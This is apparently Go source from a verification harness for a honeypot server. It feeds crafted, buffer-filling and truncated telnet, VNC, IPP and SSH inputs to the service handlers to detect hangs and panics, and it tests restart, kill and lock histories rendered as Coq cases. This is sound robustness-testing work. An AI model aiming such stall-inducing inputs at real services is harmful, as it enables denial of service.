		//    the pusher has given up and closed the socket)
		// 7: 140 pipelined requests with the default pixel format (the pusher keeps consuming)
		spf := cat([]byte{0, 0, 0, 0, 16, 16, 0, 0}, be16(31), be16(31), be16(31), []byte{10, 5, 0, 0, 0, 0})
		var burst []byte
		var single [][]byte
		for i := 0; i < 140; i++ {
			burst = append(burst, upd(0)...)
			single = append(single, upd(0))
		}
		switch sc {
		case 5:
			return append(hs, spf, burst), -1
		case 6:
			return append(append(hs, spf), single...), len(hs) + 2
		}
		return append(hs, burst), -1
	default:
		return hs, -1
	}
}

// telnet: input that fills a fixed-size internal buffer without ever completing a token
// terminal modes in which the buffer-filling input arrives: plain, inside a bracketed paste
// (ESC [ 2 0 0 ~), after an IAC negotiation, in password (no-echo) mode - scenario = mode*100 + shape
func terminalMode(mode int) [][]byte {
	switch mode {
	case 1:
		return [][]byte{[]byte("\x1b[200~")}
	case 2:
		return [][]byte{{0xff, 0xfb, 0x1f, 0xff, 0xfd, 0x01, 0xff, 0xfa, 0x1f, 0, 80, 0, 24, 0xff, 0xf0}}
	case 3: // telnet asks for the password without echo after the user name
		return [][]byte{[]byte("root\r\n")}
	}
	return nil
}

func telnetScript(sc int) [][]byte {
	if sc >= 100 {
		return append(terminalMode(sc/100), telnetShape(sc%100)...)
	}
	return telnetShape(sc)
}

func telnetShape(sc int) [][]byte {
	rep := func(b byte, n int) []byte { return []byte(strings.Repeat(string([]byte{b}), n)) }
	switch sc {
	case 0: // ESC + 255 bytes without a final letter: the 256-byte input buffer is full of an unfinished key sequence
		return [][]byte{cat([]byte{0x1b}, rep('1', 255))}
	case 1: // the same in two writes, after a user name
		return [][]byte{[]byte("root\r\n"), cat([]byte{0x1b, '['}, rep('1', 100)), rep('1', 200)}
	case 2: // an ordinary login and a command
		return [][]byte{[]byte("root\r\n"), []byte("secret\r\n"), []byte("ls\r\n"), []byte("exit\r\n")}
	case 3: // 5000 bytes without a line end
		return [][]byte{rep('a', 5000)}
	case 4: // ESC sequences back to back, 300 bytes, and telnet IAC bytes
		return [][]byte{cat(rep(0x1b, 300), rep(0xff, 300))}
	case 6: // ESC + 300 bytes that are neither letters nor '~' (what a paste may contain)
		return [][]byte{cat([]byte{0x1b}, rep('1', 150), rep(';', 150))}
	default: // exactly one byte short of the buffer, then silence or close
		return [][]byte{cat([]byte{0x1b}, rep('1', 254))}
	}
}

func ippScript(sc int) [][]byte {
	attr := func(tag byte, name, val string) []byte {
		return cat([]byte{tag}, be16(uint16(len(name))), []byte(name), be16(uint16(len(val))), []byte(val))
	}
	body := cat([]byte{2, 0}, be16(0x000b), be32(1), []byte{1},
		attr(0x47, "attributes-charset", "utf-8"), attr(0x48, "attributes-natural-language", "en"),
		attr(0x45, "printer-uri", "ipp://x/printers/p"), []byte{3})
	post := func(n int, b []byte) []byte {
		return cat([]byte(fmt.Sprintf("POST /printers/p HTTP/1.1\r\nHost: x\r\nContent-Type: application/ipp\r\nContent-Length: %d\r\n\r\n", n)), b)
	}
	switch sc {
	case 0:
		return [][]byte{post(len(body), body)}
	case 1:
		return [][]byte{[]byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n")}
	case 2: // body shorter than announced
		return [][]byte{post(len(body)+40, body)}
	case 3:
		return nil
	default: // header cut short
		return [][]byte{[]byte("POST /printers/p HTTP/1.1\r\nHost")}
	}
}

func buildSweepService(name, scratch string, ch *countChannel) services.Servicer {
	if name == "tftp-upload" {
		return buildService("tftp", scratch, ch)
	}
	if strings.HasPrefix(name, "proxy:") {
		return buildProxy(strings.TrimPrefix(name, "proxy:"), sweepScenario, ch)
	}
	if name == "ftp-data-plain" {
		return buildFtpData(scratch, false, ch)
	}
	if name == "ftp-data-tls" {
		return buildFtpData(scratch, true, ch)
	}
	if name != "ssh-simulator" {
		return buildService(name, scratch, ch)
	}
	return buildServiceCfg(name, "[s]\ncredentials=[\"*\"]\n", ch)
}

// net.Pipe is synchronous and both ssh ends start by writing their version line: the client
// side writes through a queue
type asyncConn struct {
	net.Conn
	q chan []byte
}

func newAsyncConn(c net.Conn) *asyncConn {
	a := &asyncConn{Conn: c, q: make(chan []byte, 4096)}
	go func() {
		for b := range a.q {
			if _, err := c.Write(b); err != nil {
				for range a.q {
				}
				break
			}
		}
		c.Close() // the client has closed: what was queued is out, now the connection goes
	}()
	return a
}

func (a *asyncConn) Write(p []byte) (n int, err error) {
	defer func() {
		if recover() != nil {
			n, err = 0, io.ErrClosedPipe
		}
	}()
	a.q <- append([]byte{}, p...)
	return len(p), nil
}

func (a *asyncConn) Close() error {
	defer func() { recover() }()
	close(a.q)
	return nil
}

// one connection of a sweep history
func runSweepConn(svc services.Servicer, sp Spec, idx int) (ob ConnObs, gone bool) {
	in := sp.Sweep
	if strings.HasPrefix(in.Svc, "ftp-data") {
		return runFtpDataConn(svc, sp, idx)
	}
	if in.Scenario == 10 {
		return runCutConn(svc, sp, idx)
	}
	if strings.HasPrefix(in.Svc, "proxy:") {
		return runProxyConn(svc, sp, idx)
	}
	if in.Svc == "tftp-upload" {
		return runTftpUpload(svc, sp, idx)
	}
	deadline := time.Duration(sp.DeadlineMs) * time.Millisecond
	wait := time.Duration(sp.WaitMs) * time.Millisecond
	lip, rip := connAddrs(sp, idx)
	var base net.Conn
	clientGone := make(chan struct{})
	cleanup := func() {}
	end := "close"
	if in.Silent {
		end = "silent"
	}
	if in.Svc == "ssh-simulator" && in.Scenario != 2 {
		sc, cc := lab.Pipe(&net.TCPAddr{IP: lip, Port: 22}, &net.TCPAddr{IP: rip, Port: 40000})
		base = sc
		stop := make(chan struct{})
		cleanup = func() { close(stop) }
		go func() {
			defer func() { <-stop; cc.Close() }()
			cfg := &ssh.ClientConfig{User: "root", Auth: []ssh.AuthMethod{ssh.Password("root")}, HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 5 * time.Second}
			cconn, chans, reqs, err := ssh.NewClientConn(newAsyncConn(cc), "x", cfg)
			if err != nil {
				close(clientGone)
				return
			}
			cl := ssh.NewClient(cconn, chans, reqs)
			if in.Scenario == 3 {
				replies := map[string]bool{"env": true, "exec": true, "shell": true, "pty-req": true, "subsystem": true}
				for _, pl := range in.Payloads {
					ch, rq, err := cl.OpenChannel("session", nil)
					if err != nil {
						break
					}
					go ssh.DiscardRequests(rq)
					okc := make(chan bool, 1)
					go func() {
						// the reply (or, for request types the simulator does not answer, the reply to a
						// pty-req sent after it) tells that the request has been processed
						_, err := ch.SendRequest(in.Req, replies[in.Req], pl)
						if err == nil && !replies[in.Req] {
							_, err = ch.SendRequest("pty-req", true, nil)
						}
						okc <- err == nil
					}()
					stuck := false
					select {
					case <-okc:
					case <-time.After(wait):
						stuck = true
					}
					if stuck {
						break // the handler does not answer any more: leave the verdict to the bounded wait
					}
					ch.Close()
				}
			} else if sess, err := cl.NewSession(); err == nil {
				if in.Scenario == 0 || in.Scenario == 4 {
					if w, err := sess.StdinPipe(); err == nil {
						sess.Shell()
						if in.Scenario == 0 {
							w.Write([]byte("ls\n"))
						} else {
							// the shell's line editor has the same 256-byte key-sequence buffer as telnet's;
							// Req carries the terminal mode and the shape ("mode,shape")
							mode, shape := 0, 0
							fmt.Sscanf(in.Req, "%d,%d", &mode, &shape)
							for _, sg := range append(terminalMode(mode), telnetShape(shape)...) {
								w.Write(sg)
							}
							w.Write([]byte("more"))
						}
					}
				}
				time.Sleep(5 * time.Millisecond)
			}
			if !in.Silent {
				cl.Close()
			}
			close(clientGone)
		}()
	} else {
		var segs [][]byte
		switch in.Svc {
		case "vnc":
			segs = vncScript(in.Scenario)
		case "ipp":
			segs = ippScript(in.Scenario)
		case "telnet":
			segs = telnetScript(in.Scenario)
		default:
			segs = [][]byte{[]byte("SSH-2.0-x\r\n")}
		}
		mc := newMemConn(&net.TCPAddr{IP: lip, Port: 5900}, &net.TCPAddr{IP: rip, Port: 40000}, segs, end)
		if in.Svc == "vnc" {
			if _, at := vncScriptPaced(in.Scenario); at >= 0 {
				mc.pauseAt, mc.pause = at, 60*time.Millisecond
			}
		}
		base = mc
		go func() { <-mc.drained; close(clientGone) }()
	}
	conn := server.TimeoutConn(base, deadline)
	type ret struct {
		panicked string
		at       time.Time
	}
	done := make(chan ret, 1)
	go func() {
		var r ret
		defer func() {
			if e := recover(); e != nil {
				r.panicked = fmt.Sprint(e)
				if r.panicked == "" {
					r.panicked = "panic"
				}
			}
			conn.Close()
			r.at = time.Now()
			done <- r
		}()
		svc.Handle(context.Background(), conn)
	}()
	var r ret
	returned := false
	select {
	case <-clientGone:
		select {
		case r = <-done:
			returned = true
		case <-time.After(wait + 3*deadline):
		}
	case r = <-done:
		returned = true
	case <-time.After(wait + 20*deadline):
	}
	if returned {
		ob.Outcome = "returned"
		if r.panicked != "" {
			ob.Outcome = "panic"
			ob.Panic = r.panicked
			if len(ob.Panic) > 120 {
				ob.Panic = ob.Panic[:120]
			}
		}
	} else {
		c0 := cpuTime()
		time.Sleep(150 * time.Millisecond)
		if cpuTime()-c0 > 60*time.Millisecond {
			ob.Outcome = "spin"
		} else {
			ob.Outcome = "blocked"
		}
		gone = true
	}
	cleanup()
	return
}

var _ = atomic.AddInt64
var _ = io.EOF
var _ = ioutil.Discard
var _ = hx.Fatal
