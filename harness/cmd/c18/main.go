// C18 harness: restart histories and interrupted first starts on one data directory.
// Every start is a separate child process (this binary re-executed with -c18-child) that
// runs the real server.New(WithConfig, WithDataDir, WithToken) + Run on the shared
// directory, probes the identities as a client (SSH host key, certificate after AUTH TLS /
// STARTTLS / LDAP StartTLS, agent key pair, "token" field of a delivered event) and dumps
// the persisted state (token file, badger items through storage.Namespace).
package main

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base32"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"syscall"
	"time"

	"golang.org/x/crypto/ssh"

	"verif/harness/hx"
)

type Input struct {
	Kind      string     `json:"kind"`
	TokenFile *hx.B      `json:"token_file"`           // content the token file is given before the first start (nil: absent)
	TmpFile   *hx.B      `json:"tmp_file,omitempty"`   // content token.tmp is given before the first start (nil: absent)
	Reachable bool       `json:"reachable"`            // the pre-seeded state is one a kill during a first start (before or after the WithToken repair) can leave
	SeedKeys  []string   `json:"seed_keys,omitempty"`  // namespaces given a pemkey without pemcert (kill between the two Sets)
	Kill      []string   `json:"kill,omitempty"`       // services of a first start that is killed ...
	KillMs    int        `json:"kill_ms,omitempty"`    // ... this long after it began
	KillItems int        `json:"kill_items,omitempty"` // ... or, n > 0: by itself, the moment n of the identity items its instances create are stored (watchItems)
	Runs      [][]string `json:"runs"`                 // service instances configured in each start
	Overlap   []string   `json:"overlap,omitempty"`    // per start: "" | "overlap" (attempted while the previous start's process is still
	// running on the directory) | "flock" (attempted while the harness holds badger's directory lock)
	Wiring *Wiring `json:"wiring,omitempty"` // capture channels and [[filter]] sections of every start (nil: only the catch-all)
	// how the data directory is spelled in each start: abs | slash | dotdot | rel | reldot | relup | tilde | tildeslash
	// (default abs); Home: the directory lives below the user's home directory (needed for the ~ spellings)
	Spell []string `json:"spell,omitempty"`
	// RealCmd: every start runs the real command (cmd/honeytrap New().Run, flags -c and -d); Cwd: working directory of
	// each start ("" = parent of the data directory, else a directory of that name next to it; only with abs/~ spellings)
	RealCmd bool     `json:"real_cmd,omitempty"`
	Cwd     []string `json:"cwd,omitempty"`
	Home    bool     `json:"home,omitempty"`
}

type Obs struct {
	Disk0 *ChildObs  `json:"disk0"` // persisted state before the first completed start
	Runs  []ChildObs `json:"runs"`
	Lock  []bool     `json:"lock_held"` // per start: the directory lock was held elsewhere while it was attempted
	Data  string     `json:"data_dir"`
	HomeD string     `json:"home_dir"`
}

// ---- child orchestration ----
var (
	self    string
	seedKey []byte // PEM RSA key used for pre-seeded pemkey items (format of services/*/storage.go generateKey)
	seedMu  sync.Mutex
)

func seedPEM() []byte {
	seedMu.Lock()
	defer seedMu.Unlock()
	if seedKey == nil {
		priv, err := rsa.GenerateKey(rand.Reader, 2048)
		if err != nil {
			hx.Fatal("rsa: %v", err)
		}
		seedKey = pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(priv)})
	}
	return seedKey
}

// opKey: the operator's PEM key given to ssh-auth through its private-key option, and the
// digest of its public side (what a client of that instance must be shown)
var (
	opPEMv []byte
	opPubv hx.B
)

func opKey() ([]byte, hx.B) {
	seedMu.Lock()
	defer seedMu.Unlock()
	if opPEMv == nil {
		priv, err := rsa.GenerateKey(rand.Reader, 2048)
		if err != nil {
			hx.Fatal("rsa: %v", err)
		}
		opPEMv = pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(priv)})
		pk, err := ssh.NewPublicKey(&priv.PublicKey)
		if err != nil {
			hx.Fatal("ssh public key: %v", err)
		}
		h := sha256.Sum256(pk.Marshal())
		opPubv = hx.B(h[:6])
	}
	return opPEMv, opPubv
}

// spawn runs one child; killAfter >= 0: kill it that many ms after it reported ready.
func spawn(job Job, dir, tag string, killAfter int) (*ChildObs, string) {
	ob, crash, _ := spawnX(job, dir, tag, killAfter)
	return ob, crash
}

// flockDir takes badger's directory lock (flock on the directory) the way another process would.
func flockDir(dir string) func() {
	f, err := os.Open(dir)
	if err != nil {
		return nil
	}
	if err := syscall.Flock(int(f.Fd()), syscall.LOCK_EX|syscall.LOCK_NB); err != nil {
		f.Close()
		return nil
	}
	return func() { syscall.Flock(int(f.Fd()), syscall.LOCK_UN); f.Close() }
}

// spawnX: as spawn; with job.Hold the child is left running once its observation is there
// and the returned function kills it.
func spawnX(job Job, dir, tag string, killAfter int) (*ChildObs, string, func()) {
	for _, sv := range job.Services {
		if sv == "ssh-authk" {
			k, _ := opKey()
			job.OpKey = string(k)
		}
	}
	jp := filepath.Join(dir, tag+".job.json")
	job.Out = filepath.Join(dir, tag+".obs.json")
	if killAfter >= 0 {
		job.Ready = filepath.Join(dir, tag+".ready")
	}
	b, _ := json.Marshal(job)
	if err := os.WriteFile(jp, b, 0o644); err != nil {
		hx.Fatal("job file: %v", err)
	}
	logf, err := os.Create(filepath.Join(dir, tag+".log"))
	if err != nil {
		hx.Fatal("log file: %v", err)
	}
	defer logf.Close()
	cmd := exec.Command(self, "-c18-child", jp)
	cmd.Stdout, cmd.Stderr = logf, logf
	if err := cmd.Start(); err != nil {
		hx.Fatal("cannot start child: %v", err)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	if job.KillItems > 0 { // ends by its own SIGKILL (or, the count never reached, like any start)
		select {
		case <-done:
		case <-time.After(180 * time.Second):
			cmd.Process.Kill()
			<-done
			return nil, "start (to be killed at a number of stored items) did not end within 180 s", nil
		}
		return nil, "", nil
	}
	if killAfter >= 0 {
		t0 := time.Now()
		for time.Since(t0) < 30*time.Second {
			if _, err := os.Stat(job.Ready); err == nil {
				break
			}
			time.Sleep(time.Millisecond)
		}
		select {
		case <-done: // finished before the kill
		case <-time.After(time.Duration(killAfter) * time.Millisecond):
			cmd.Process.Kill()
			<-done
		}
		return nil, "", nil
	}
	var stop func()
	if job.Hold {
		stop = func() { cmd.Process.Kill(); <-done }
		t0 := time.Now()
	wait:
		for {
			if _, serr := os.Stat(job.Out); serr == nil {
				break
			}
			select {
			case err = <-done:
				stop = nil
				break wait
			default:
			}
			if time.Since(t0) > 180*time.Second {
				stop()
				return nil, "start did not complete within 180 s", nil
			}
			time.Sleep(2 * time.Millisecond)
		}
	} else {
		select {
		case err = <-done:
		case <-time.After(180 * time.Second):
			cmd.Process.Kill()
			<-done
			return nil, "start did not complete within 180 s", nil
		}
	}
	ob := &ChildObs{}
	if data, rerr := os.ReadFile(job.Out); rerr == nil && json.Unmarshal(data, ob) == nil {
		return ob, "", stop
	}
	if stop != nil {
		stop()
	}
	tail, _ := os.ReadFile(filepath.Join(dir, tag+".log"))
	if len(tail) > 400 {
		tail = tail[len(tail)-400:]
	}
	return nil, fmt.Sprintf("process ended without completing the start (%v): %s", err, strings.TrimSpace(string(tail))), nil
}

var homeScratch string // <home>/.verif-c18-<pid>, created on demand, removed at the end

func homeDir() string {
	u, err := user.Current() // what server.expand uses for a leading ~
	if err != nil || u.HomeDir == "" {
		hx.Fatal("no home directory: %v", err)
	}
	return u.HomeDir
}

// spelled: the string handed to WithDataDir for the spelling kind, given the canonical
// data directory (its parent is the working directory of the start)
func spelled(kind, data string) string {
	parent, base := filepath.Dir(data), filepath.Base(data)
	switch kind {
	case "slash":
		return data + "/"
	case "dotdot":
		return parent + "/zz/../" + base
	case "rel":
		return base
	case "reldot":
		return "./" + base + "/"
	case "relup":
		return "../" + filepath.Base(parent) + "/" + base
	case "tilde", "tildeslash":
		rel, err := filepath.Rel(homeDir(), data)
		if err != nil || strings.HasPrefix(rel, "..") {
			hx.Fatal("data directory %s is not below the home directory", data)
		}
		if kind == "tildeslash" {
			return "~/" + rel + "/"
		}
		return "~/" + rel
	}
	return data
}

func runCase(in Input, dir string) (Obs, string) {
	var ob Obs
	os.RemoveAll(dir)
	data := filepath.Join(dir, "data")
	if in.Home {
		data = filepath.Join(homeScratch, filepath.Base(dir), "data")
		os.RemoveAll(filepath.Dir(data))
		if err := os.MkdirAll(dir, 0o755); err != nil {
			hx.Fatal("mkdir: %v", err)
		}
	}
	ob.Data, ob.HomeD = data, homeDir()
	cwdOf := func(i int) string {
		if i < len(in.Cwd) && in.Cwd[i] != "" {
			d := filepath.Join(filepath.Dir(data), "cwd-"+in.Cwd[i])
			os.MkdirAll(d, 0o755)
			return d
		}
		return filepath.Dir(data)
	}
	spellOf := func(i int) string {
		if i < len(in.Spell) && in.Spell[i] != "" {
			return spelled(in.Spell[i], data)
		}
		return data
	}
	if err := os.MkdirAll(data, 0o755); err != nil {
		hx.Fatal("mkdir: %v", err)
	}
	if in.TokenFile != nil {
		if err := os.WriteFile(filepath.Join(data, "token"), []byte(*in.TokenFile), 0o600); err != nil {
			hx.Fatal("seed token: %v", err)
		}
	}
	if in.TmpFile != nil {
		if err := os.WriteFile(filepath.Join(data, "token.tmp"), []byte(*in.TmpFile), 0o600); err != nil {
			hx.Fatal("seed token.tmp: %v", err)
		}
	}
	switch {
	case len(in.SeedKeys) > 0:
		seed := map[string]hx.B{}
		for _, ns := range in.SeedKeys {
			seed[ns+".pemkey"] = seedPEM()
		}
		d0, crash := spawn(Job{Mode: "seed", DataDir: data, Seed: seed}, dir, "seed", -1)
		if crash != "" {
			hx.Fatal("seed child: %s", crash)
		}
		ob.Disk0 = d0
	case in.Kill != nil:
		if in.KillItems > 0 {
			if _, crash := spawn(Job{Mode: "run", DataDir: data, Services: in.Kill, KillItems: in.KillItems}, dir, "kill", -1); crash != "" {
				return ob, crash
			}
		} else {
			spawn(Job{Mode: "run", DataDir: data, Services: in.Kill}, dir, "kill", in.KillMs)
		}
		d0, crash := spawn(Job{Mode: "dump", DataDir: data}, dir, "dump", -1)
		if crash != "" {
			return ob, "state left by the kill cannot be opened: " + crash
		}
		ob.Disk0 = d0
	default:
		ob.Disk0 = &ChildObs{TokenFile: in.TokenFile, KV: map[string]ItemObs{}}
		if in.TmpFile != nil {
			ob.Disk0.TmpFiles = map[string]hx.B{"token.tmp": *in.TmpFile}
		}
	}
	mode := func(i int) string {
		if i >= 0 && i < len(in.Overlap) {
			return in.Overlap[i]
		}
		return ""
	}
	var stopPrev func()
	defer func() {
		if stopPrev != nil {
			stopPrev()
		}
	}()
	for i, svcs := range in.Runs {
		locked := false
		var unlock func()
		switch mode(i) {
		case "overlap":
			locked = stopPrev != nil
		case "flock":
			unlock = flockDir(filepath.Join(data, "badger.db"))
			locked = unlock != nil
		}
		tag := fmt.Sprintf("run%d", i)
		r, crash, stop := spawnX(Job{Mode: "run", DataDir: data, Services: svcs, Wiring: in.Wiring, Hold: mode(i+1) == "overlap",
			Spell: spellOf(i), Cwd: cwdOf(i), RealCmd: in.RealCmd}, dir, tag, -1)
		if unlock != nil {
			unlock()
		}
		if stopPrev != nil { // the earlier process goes away once the overlapping attempt is over
			stopPrev()
			stopPrev = nil
		}
		ob.Lock = append(ob.Lock, locked)
		if crash != "" && locked {
			// expected outcome is a refusal to start; anything else that ends the process is reported
			logb, _ := os.ReadFile(filepath.Join(dir, tag+".log"))
			if !strings.Contains(string(logb), "Cannot acquire directory lock") {
				return ob, fmt.Sprintf("start %d (store locked elsewhere): %s", i+1, crash)
			}
			ob.Runs = append(ob.Runs, ChildObs{Failed: true})
			continue
		}
		if crash != "" {
			return ob, fmt.Sprintf("start %d: %s", i+1, crash)
		}
		if r.NewErr != "" {
			return ob, fmt.Sprintf("start %d: server.New failed: %s", i+1, r.NewErr)
		}
		if !r.Started {
			return ob, fmt.Sprintf("start %d: %s", i+1, strings.Join(r.Errs, "; "))
		}
		ob.Runs = append(ob.Runs, *r)
		stopPrev = stop
	}
	return ob, ""
}

// ---- Coq rendering ----
var coqItem = map[string]string{
	"ssh.private-key": "SshKey", "ftp.pemkey": "FtpKey", "ftp.pemcert": "FtpCert", "smtp.pemkey": "SmtpKey",
	"smtp.pemcert": "SmtpCert", "ldap.pemkey": "LdapKey", "ldap.pemcert": "LdapCert", "agent.key": "AgentKey",
}
var coqKind = map[string]string{"ssh": "KSim", "ssh2": "KSim", "ssh-auth": "KAuth", "ssh-authk": "KAuth", "ssh-jail": "KJail",
	"ssh-proxy": "KProxy", "ftp": "KFtp", "ftp2": "KFtp", "smtp": "KSmtp", "smtp2": "KSmtp", "ldap": "KLdap", "ldap2": "KLdap", "agent": "KAgent"}

func coqOptB(b *hx.B) string {
	if b == nil {
		return "(@None bytes)"
	}
	return "(Some " + hx.CoqBytes(*b) + ")"
}

func coqDisk(c *ChildObs) string {
	var kv []string
	for _, it := range kvItems {
		if o, ok := c.KV[it.Name]; ok && o.Present {
			kv = append(kv, fmt.Sprintf("(%s, %s)", coqItem[it.Name], hx.CoqBytes(o.Digest)))
		}
	}
	var tmp *hx.B
	if b, ok := c.TmpFiles["token.tmp"]; ok {
		tmp = &b
	}
	return fmt.Sprintf("(mkDisk %s %s %s)", coqOptB(c.TokenFile), coqOptB(tmp), hx.CoqList(kv, "(item * bytes)"))
}

func coqBad(c *ChildObs) string {
	var bad []string
	for _, it := range kvItems {
		if o, ok := c.KV[it.Name]; ok && o.Present && !o.WF {
			bad = append(bad, coqItem[it.Name])
		}
	}
	return hx.CoqList(bad, "item")
}

var catNum = map[string]int{"catA": 10, "catB": 11, "catC": 12, "catD": 13}

func chanNum(w *Wiring, name string) int {
	if w != nil {
		for i, c := range w.Channels {
			if c == name {
				return i + 1
			}
		}
	}
	return 99 // a name no [channel.*] section defines
}

func coqNs(xs []int) string {
	var es []string
	for _, x := range xs {
		es = append(es, hx.CoqN(uint64(x)))
	}
	return hx.CoqList(es, "N")
}

func coqWiring(w *Wiring, r *ChildObs) (string, string, string) {
	var chans []int
	var filts []string
	if w != nil {
		for i := range w.Channels {
			chans = append(chans, i+1)
		}
		for _, f := range w.Filters {
			var cs, cats []int
			for _, c := range f.Channels {
				cs = append(cs, chanNum(w, c))
			}
			for _, c := range f.Categories {
				cats = append(cats, catNum[c])
			}
			filts = append(filts, fmt.Sprintf("mkFilt %s %s", coqNs(cs), coqNs(cats)))
		}
	}
	var deliv []string
	for _, cat := range probeCats {
		var as []string
		for _, a := range r.Deliv[cat] {
			tok := []byte(a.Token)
			if !a.Has {
				tok = nil
			}
			as = append(as, fmt.Sprintf("(%s, %s)", hx.CoqN(uint64(chanNum(w, a.Chan))), hx.CoqBytes(tok)))
		}
		deliv = append(deliv, fmt.Sprintf("(%s, %s)", hx.CoqN(uint64(catNum[cat])), hx.CoqList(as, "(N * bytes)")))
	}
	return coqNs(chans), hx.CoqList(filts, "filt"), hx.CoqList(deliv, "(N * list (N * bytes))")
}

// algorithm / certificate type -> number; 1 = the one key every instance is expected to offer
var algNum = map[string]int{"ssh-rsa": 1, "tls-rsa": 1, "agent": 1, "rsa-sha2-256": 2, "rsa-sha2-512": 3, "ssh-ed25519": 4,
	"ecdsa-sha2-nistp256": 5, "ecdsa-sha2-nistp384": 6, "ecdsa-sha2-nistp521": 7, "ssh-dss": 8, "tls-ecdsa": 9, "tls-ed25519": 10}

func coqAlgs(m map[string]hx.B) string {
	type av struct {
		a int
		v hx.B
	}
	var xs []av
	for name, v := range m {
		n, ok := algNum[name]
		if !ok {
			n = 50
			for _, c := range []byte(name) {
				n = (n*31 + int(c)) % 100000
			}
			n += 50
		}
		xs = append(xs, av{n, v})
	}
	sort.Slice(xs, func(i, j int) bool { return xs[i].a < xs[j].a })
	var es []string
	for _, x := range xs {
		es = append(es, fmt.Sprintf("(%s, %s)", hx.CoqN(uint64(x.a)), hx.CoqBytes(x.v)))
	}
	return hx.CoqList(es, "(N * bytes)")
}

// spellCtx numbers path components per case and renders home / working directory / data
// directory and each start's spelling for the model's resolve.
type spellCtx struct {
	in   Input
	ob   Obs
	nums map[string]int
}

func (c *spellCtx) num(name string) int {
	if n, ok := c.nums[name]; ok {
		return n
	}
	n := len(c.nums) + 1
	c.nums[name] = n
	return n
}

func (c *spellCtx) comps(path string) []string {
	var out []string
	for _, x := range strings.Split(path, "/") {
		switch x {
		case "", ".":
		case "..":
			out = append(out, "Up")
		default:
			out = append(out, fmt.Sprintf("Name %s", hx.CoqN(uint64(c.num(x)))))
		}
	}
	return out
}

func (c *spellCtx) names(path string) string {
	var out []int
	for _, x := range strings.Split(path, "/") {
		if x != "" {
			out = append(out, c.num(x))
		}
	}
	return coqNs(out)
}

func (c *spellCtx) spell(i int) string {
	s := c.ob.Data
	if i < len(c.in.Spell) && c.in.Spell[i] != "" {
		s = spelled(c.in.Spell[i], c.ob.Data)
	}
	tilde, abs := strings.HasPrefix(s, "~"), strings.HasPrefix(s, "/")
	if tilde {
		s = s[1:]
	}
	return fmt.Sprintf("(mkSpell %s %s %s)", hx.CoqBool(tilde), hx.CoqBool(abs), hx.CoqList(c.comps(s), "comp"))
}

func coqCase(id int, in Input, ob Obs) string {
	sp := &spellCtx{in: in, ob: ob, nums: map[string]int{}}
	var runs []string
	for i, r := range ob.Runs {
		var cfg, pub, seen []string
		for _, s := range in.Runs[i] {
			opt := "(@None bytes)"
			if s == "ssh-authk" {
				_, d := opKey()
				opt = "(Some " + hx.CoqBytes(d) + ")"
			}
			cfg = append(cfg, fmt.Sprintf("mkInst %s %s", coqKind[s], opt))
			seen = append(seen, coqAlgs(r.Seen[s]))
		}
		for _, it := range kvItems {
			if o, ok := r.KV[it.Name]; ok && o.Present && o.Pub != nil {
				pub = append(pub, fmt.Sprintf("(%s, %s)", coqItem[it.Name], hx.CoqBytes(o.Pub)))
			}
		}
		lock := i < len(ob.Lock) && ob.Lock[i]
		if r.Failed {
			runs = append(runs, fmt.Sprintf("mkRun (@nil inst) (@nil N) 0%%N (mkDisk None None []) [] (@nil (list (N * bytes))) [] %s true (@nil N) (@nil filt) [] %s", hx.CoqBool(lock), sp.spell(i)))
			continue
		}
		chans, filts, deliv := coqWiring(in.Wiring, &r)
		runs = append(runs, fmt.Sprintf("mkRun %s %s %s %s %s %s %s %s false %s %s %s %s", hx.CoqList(cfg, "inst"), hx.CoqBytes(r.Token),
			hx.CoqN(uint64(r.TokenSeen)), coqDisk(&r), hx.CoqList(pub, "(item * bytes)"), hx.CoqList(seen, "(list (N * bytes))"), coqBad(&r),
			hx.CoqBool(lock), chans, filts, deliv, sp.spell(i)))
	}
	d0 := ob.Disk0
	if d0 == nil {
		d0 = &ChildObs{}
	}
	return fmt.Sprintf("mkCase %s %s %s %s\n     %s\n     %s %s %s", hx.CoqN(uint64(id)), hx.CoqBool(in.Reachable), coqDisk(d0), coqBad(d0),
		hx.CoqList(runs, "run"), sp.names(ob.HomeD), sp.names(filepath.Dir(ob.Data)), sp.names(ob.Data))
}

// ---- generation ----
var xidEnc = base32.NewEncoding("0123456789abcdefghijklmnopqrstuv").WithPadding(base32.NoPadding)

// genToken: a string of the shape xid.New().String() produces (12 bytes, base32hex lower case, 20 chars)
func genToken(r *hx.Rand) string { return xidEnc.EncodeToString(r.Bytes(12)) }

func bp(s string) *hx.B { b := hx.B(s); return &b }

var allSvcs = []string{"ssh", "ssh2", "ssh-auth", "ssh-authk", "ssh-jail", "ssh-proxy", "ftp", "ftp2", "smtp", "smtp2", "ldap", "ldap2", "agent"}

// genSet: a random set of service instances: any of the four ssh service types (ssh-auth
// with and without the private-key option, a second ssh-simulator), ftp/smtp/ldap each
// possibly twice, the agent listener
func genSet(r *hx.Rand, min int) []string {
	for {
		var s []string
		for _, x := range []string{"ssh", "ssh2", "ssh-auth", "ssh-authk", "ssh-jail", "ssh-proxy"} {
			if r.Chance(1, 3) {
				s = append(s, x)
			}
		}
		for _, x := range []string{"ftp", "smtp", "ldap"} {
			if r.Chance(1, 2) {
				s = append(s, x)
				if r.Chance(1, 3) {
					s = append(s, x+"2")
				}
			}
		}
		if r.Chance(1, 2) {
			s = append(s, "agent")
		}
		if len(s) >= min {
			return s
		}
	}
}

// genWiring: 1..3 channels; 1..4 filters, each naming 1..2 channels (now and then an
// undefined one or the same twice) with 0..2 categories
func genWiring(r *hx.Rand) *Wiring {
	w := &Wiring{}
	nc := r.Range(1, 3)
	for i := 1; i <= nc; i++ {
		w.Channels = append(w.Channels, fmt.Sprintf("c%d", i))
	}
	for i, nf := 0, r.Range(1, 4); i < nf; i++ {
		var f Flt
		for j, n := 0, r.Range(1, 2); j < n; j++ {
			c := w.Channels[r.Intn(nc)]
			if r.Chance(1, 10) {
				c = "cX"
			}
			f.Channels = append(f.Channels, c)
		}
